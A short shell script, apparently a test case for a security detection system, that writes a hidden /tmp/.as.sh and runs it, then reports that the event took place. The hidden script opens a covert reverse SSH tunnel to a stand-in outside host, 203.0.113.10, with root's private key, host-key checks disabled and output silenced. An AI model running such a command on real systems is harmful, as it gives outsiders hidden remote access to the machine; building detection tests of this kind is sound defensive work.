#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.as.sh <<'END'
for n in 1 2 3; do timeout 2 ssh -f -N -R 2222:127.0.0.1:22 -oStrictHostKeyChecking=no -oUserKnownHostsFile=/dev/null -oServerAliveInterval=30 -oExitOnForwardFailure=yes -i /root/.ssh/id_rsa tun@203.0.113.10 </dev/null >/dev/null 2>&1; sleep 0.3; done
END
sh /tmp/.as.sh || true
took_place
